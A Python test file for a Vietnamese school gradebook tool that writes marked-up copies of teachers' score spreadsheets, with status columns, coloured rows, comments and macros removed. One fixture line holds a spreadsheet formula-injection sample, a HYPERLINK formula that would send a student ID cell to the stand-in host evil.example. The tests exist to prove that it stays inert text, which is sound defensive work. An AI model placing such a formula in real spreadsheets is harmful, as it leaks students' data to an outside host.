"""The marked-up copy: values untouched, rows coloured, reasons as comments, a status column.

The source workbook is built here the way teachers' files look (a merged title
block, a header, a formula with its cached value, text that looks like a
formula, a comment of the teacher's own, a lookup sheet); ``.xls`` and ``.ods``
variants and the "does a real spreadsheet program open it" checks go through
LibreOffice.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import python_calamine
from openpyxl.comments import Comment

from gradesync.gradebook.markup import (
    COMMENT_AUTHOR,
    STATUS_HEADER,
    RowMark,
    marks_from_report,
    write_marked_up,
)
from gradesync.gradebook.model import Finding, Gradebook, GradeRow, Severity, WorkbookReport

GREEN, RED, GREY = "FFC6EFCE", "FFFFC7CE", "FFF2F2F2"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B7,"bấm vào đây")'


def teacher_workbook() -> bytes:
    """A score sheet as teachers make them; rows 6–8 are data, row 5 the header."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Toán"
    ws["A1"] = "SỞ GD&ĐT TỈNH X — TRƯỜNG THCS Y"
    ws.merge_cells("A1:G1")
    ws["A2"] = "BẢNG ĐIỂM HỌC KỲ I — LỚP 6A1 — MÔN TOÁN — NĂM HỌC 2025-2026"
    ws.merge_cells("A2:G2")
    ws.append([])
    ws.append([])
    ws.append(["STT", "Mã học sinh", "Họ và tên", "TX1", "GK", "CK", "TBM"])
    ws.append([1, "0791234567", "Nguyễn Văn An", 8, 7.5, 9, "=ROUND((D6+2*E6+3*F6)/6,1)"])
    ws.append([2, "0791234568", "Trần Thị Bình", 6, 11, 7, None])
    ws.append([3, "0791234569", None, 9, 9, 9, None])
    # Text that a spreadsheet would turn live if re-parsed: must stay text.
    ws["C8"] = HYPERLINK
    ws["C8"].data_type = "s"
    ws["H7"] = "+84 912 345 678"  # a phone number noted right of the table
    ws["E7"].comment = Comment("Em vắng thi, thi bù ngày 5/1", "Cô Lan")
    ws.column_dimensions["B"].width = 14
    ws.column_dimensions["H"].hidden = True
    lookup = wb.create_sheet("DanhMuc")
    lookup.append(["Mã", "Tên"])
    lookup.append(["TOAN", "Toán"])
    buf = io.BytesIO()
    wb.save(buf)
    return _with_cached_value(buf.getvalue(), "G6", "8.2")


def _with_cached_value(xlsx: bytes, cell: str, value: str) -> bytes:
    """Give one formula the cached value Excel would have saved (openpyxl writes none)."""
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                pattern = rf'(<c r="{cell}"[^>]*>)(<f>[^<]*</f>)<v\s*/>'
                data, n = re.subn(pattern.encode(), rb"\1\2<v>" + value.encode() + b"</v>", data)
                assert n == 1, "the formula cell was not found"
            dst.writestr(item, data)
    return out.getvalue()


MARKS = [
    RowMark("Toán", 6, "Đã đồng bộ", "green"),
    RowMark("Toán", 7, "Không hợp lệ", "red", [("E7", "Điểm ĐĐGgk phải từ 0 đến 10 (đang là 11)")]),
    RowMark("Toán", 8, "Chưa gửi", "neutral", [(None, "Thiếu họ và tên")]),
]


def values(source: bytes | Path) -> dict[str, list[list[object]]]:
    """Every sheet's values as python-calamine reads them (what our reader sees)."""
    data = source.read_bytes() if isinstance(source, Path) else source
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {
        name: book.get_sheet_by_name(name).to_python(skip_empty_area=False)
        for name in book.sheet_names
    }


def marked(source: bytes, filename: str = "BangDiem_6A1.xlsx", marks=MARKS, **kw) -> bytes:
    out = io.BytesIO()
    write_marked_up(source, filename, marks, out, **kw)
    return out.getvalue()


def fill(ws, ref: str) -> str:
    return ws[ref].fill.fgColor.rgb if ws[ref].fill.fill_type == "solid" else "none"


def test_values_are_untouched_except_formulas_which_keep_their_cached_value():
    source = teacher_workbook()
    before, after = values(source), values(marked(source))
    assert set(after) == set(before)
    for name, rows in before.items():
        for r, row in enumerate(rows):
            assert after[name][r][: len(row)] == row, f"{name} row {r + 1} changed"
    # The formula is gone from the copy; the number the teacher saw stays.
    ws = openpyxl.load_workbook(io.BytesIO(marked(source)))["Toán"]
    assert ws["G6"].value == pytest.approx(8.2)
    assert ws["G6"].data_type == "n"


def test_each_marked_row_is_filled_across_the_table_and_the_status_column():
    ws = openpyxl.load_workbook(io.BytesIO(marked(teacher_workbook())))["Toán"]
    for ref in ("A6", "D6", "G6", "I6"):
        assert fill(ws, ref) == GREEN
    for ref in ("A7", "E7", "I7"):
        assert fill(ws, ref) == RED
    assert fill(ws, "C8") == GREY
    # Title, header and the lookup sheet are not painted.
    assert fill(ws, "A2") == "none"
    assert fill(ws, "D5") == "none"


def test_the_status_column_is_appended_right_of_the_table_with_a_header():
    ws = openpyxl.load_workbook(io.BytesIO(marked(teacher_workbook())))["Toán"]
    # H holds the teacher's own (hidden) note, so the table ends at H: status in I.
    assert ws["I5"].value == STATUS_HEADER
    assert [ws[f"I{r}"].value for r in (6, 7, 8)] == ["Đã đồng bộ", "Không hợp lệ", "Chưa gửi"]
    assert ws.column_dimensions["H"].hidden, "the teacher's layout is kept"


def test_reasons_are_comments_on_the_offending_cell_or_the_rows_first_cell():
    ws = openpyxl.load_workbook(io.BytesIO(marked(teacher_workbook())))["Toán"]
    # The teacher's own comment on E7 is kept, ours is added below it.
    assert ws["E7"].comment.text.startswith("Em vắng thi, thi bù ngày 5/1")
    assert ws["E7"].comment.text.endswith("Điểm ĐĐGgk phải từ 0 đến 10 (đang là 11)")
    assert ws["A8"].comment.text == "Thiếu họ và tên"
    assert ws["A8"].comment.author == COMMENT_AUTHOR
    assert ws["A6"].comment is None


def test_text_that_looks_like_a_formula_never_comes_back_live():
    copy = marked(teacher_workbook())
    sheet_xml = zipfile.ZipFile(io.BytesIO(copy)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml, "the copy must hold no live formula"
    ws = openpyxl.load_workbook(io.BytesIO(copy))["Toán"]
    for ref, text in (("C8", HYPERLINK), ("H7", "+84 912 345 678")):
        assert ws[ref].value == text
        assert ws[ref].data_type == "s"
        assert ws[ref].quotePrefix, f"{ref} must be shown as text by Excel too"


def test_status_text_from_the_caller_is_never_a_formula_either():
    copy = marked(teacher_workbook(), marks=[RowMark("Toán", 6, "=1+1", "red")])
    ws = openpyxl.load_workbook(io.BytesIO(copy))["Toán"]
    (status,) = [c for c in ws[6] if c.value == "=1+1"]
    assert status.data_type == "s"


def test_marking_a_marked_copy_again_reuses_the_status_column_and_our_comments():
    once = marked(teacher_workbook())
    twice = marked(
        once,
        marks=[
            RowMark("Toán", 7, "Đã đồng bộ", "green"),
            RowMark("Toán", 8, "Không hợp lệ", "red", [(None, "Mã học sinh trùng")]),
        ],
    )
    ws = openpyxl.load_workbook(io.BytesIO(twice))["Toán"]
    assert ws["I5"].value == STATUS_HEADER and ws["J5"].value is None
    assert ws["I7"].value == "Đã đồng bộ" and fill(ws, "A7") == GREEN
    assert ws["A8"].comment.text == "Mã học sinh trùng"


def test_macros_are_never_kept_and_an_xlsm_comes_back_as_xlsx():
    xlsm = _as_macro_workbook(teacher_workbook())
    assert "xl/vbaProject.bin" in zipfile.ZipFile(io.BytesIO(xlsm)).namelist()
    copy = zipfile.ZipFile(io.BytesIO(marked(xlsm, "BangDiem_6A1.xlsm")))
    assert "xl/vbaProject.bin" not in copy.namelist()
    content_types = copy.read("[Content_Types].xml").decode()
    assert "spreadsheetml.sheet.main+xml" in content_types
    assert "macroEnabled" not in content_types


def _as_macro_workbook(xlsx: bytes) -> bytes:
    """The same workbook as an .xlsm carrying a (dummy) VBA project."""
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" '
                    b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            elif item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdVba" Target="vbaProject.bin" Type="http://schemas'
                    b'.microsoft.com/office/2006/relationships/vbaProject"/></Relationships>',
                )
            dst.writestr(item, data)
        dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really a VBA project")
    return out.getvalue()


def test_a_mark_on_a_sheet_the_workbook_lacks_is_a_programming_error():
    with pytest.raises(ValueError, match="Văn"):
        marked(teacher_workbook(), marks=[RowMark("Văn", 6, "x", "red")])


def test_sheet_notes_go_on_the_status_header():
    copy = marked(
        teacher_workbook(),
        header_rows={"Toán": 5},
        sheet_notes={"Toán": ["Không tìm thấy cột ĐĐGck"]},
    )
    ws = openpyxl.load_workbook(io.BytesIO(copy))["Toán"]
    assert ws["I5"].comment.text == "Không tìm thấy cột ĐĐGck"


def test_marks_from_a_report_say_what_is_wrong_where():
    gk = Finding(
        "SCORE_OUT_OF_RANGE",
        Severity.ERROR,
        "Điểm ĐĐGgk phải từ 0 đến 10 (đang là 11)",
        "Toán",
        7,
        "E7",
    )
    extra = Finding("TX_EXTRA", Severity.WARNING, "Có 5 điểm ĐĐGtx, cần 4", "Toán", 8, "D8")
    book = Gradebook("Toán", "2025-2026", "HK1", "6A1", "TOAN", header_row=5)
    book.rows = [
        GradeRow("Toán", 6, "0791234567", gk=Decimal("7.5")),
        GradeRow("Toán", 7, "0791234568", findings=[gk]),
        GradeRow("Toán", 8, "0791234569", findings=[extra]),
    ]
    marks = marks_from_report(WorkbookReport("BangDiem_6A1.xlsx", [book]))
    assert [(m.row, m.colour) for m in marks] == [(6, "green"), (7, "red"), (8, "green")]
    assert marks[0].status == "Hợp lệ" and marks[0].reasons == []
    assert marks[1].status == "Không hợp lệ (1 lỗi): E7: " + gk.message
    assert marks[1].reasons == [("E7", "Lỗi [SCORE_OUT_OF_RANGE]: " + gk.message)]
    assert marks[2].status.startswith("Hợp lệ, 1 cảnh báo")
    assert marks[2].reasons == [("D8", "Cảnh báo [TX_EXTRA]: " + extra.message)]


# --- with LibreOffice --------------------------------------------------------


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    """Run LibreOffice headless with a private profile (others may run it at once)."""
    if shutil.which("soffice") is None:
        pytest.skip("soffice (LibreOffice) is not installed")
    profile = tmp_path_factory.mktemp("lo-profile")

    def convert(src: Path, to: str) -> Path:
        outdir = src.parent / f"out-{to.split(':')[0]}"
        subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation={profile.as_uri()}",
                "--headless",
                "--convert-to",
                to,
                "--outdir",
                str(outdir),
                str(src),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        return outdir

    return convert


@pytest.mark.libreoffice
@pytest.mark.parametrize("suffix", ["xls", "ods"])
def test_xls_and_ods_come_back_as_xlsx_with_the_same_values(office, tmp_path, suffix):
    src = tmp_path / "BangDiem_6A1.xlsx"
    src.write_bytes(teacher_workbook())
    old = next(office(src, suffix).glob(f"*.{suffix}"))
    copy = marked(old.read_bytes(), old.name)
    assert copy[:2] == b"PK", "the copy is an xlsx (a zip), whatever came in"
    before, after = values(old), values(copy)
    for name, rows in before.items():
        for r, row in enumerate(rows):
            assert after[name][r][: len(row)] == row, f"{name} row {r + 1} changed"
    ws = openpyxl.load_workbook(io.BytesIO(copy))["Toán"]
    if suffix == "xls":  # python-calamine reports no merged ranges for .ods
        assert "A1:G1" in {str(m) for m in ws.merged_cells.ranges}, "the title block is kept"
    assert fill(ws, "A7") == RED
    assert ws["E7"].comment.text.endswith("(đang là 11)")
    assert ws["C8"].value == HYPERLINK and ws["C8"].data_type == "s"


@pytest.mark.libreoffice
def test_libreoffice_opens_the_copy_and_shows_values_and_status(office, tmp_path):
    src = tmp_path / "BangDiem_6A1.checked.xlsx"
    src.write_bytes(marked(teacher_workbook()))
    # 44,34,76,1,,0,false,true,false,false,false,-1: comma, quote, UTF-8, every sheet.
    outdir = office(
        src, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    )
    sheets = {p.stem.rsplit("-", 1)[-1]: p for p in outdir.glob("*.csv")}
    assert set(sheets) == {"Toán", "DanhMuc"}
    rows = list(csv.reader(sheets["Toán"].open(encoding="utf-8")))
    assert rows[4][:7] == ["STT", "Mã học sinh", "Họ và tên", "TX1", "GK", "CK", "TBM"]
    assert rows[4][8] == STATUS_HEADER
    assert rows[5][:7] == ["1", "0791234567", "Nguyễn Văn An", "8", "7.5", "9", "8.2"]
    assert rows[6][8] == "Không hợp lệ"
    # LibreOffice shows the text, it did not evaluate a hyperlink formula.
    assert rows[7][2] == HYPERLINK
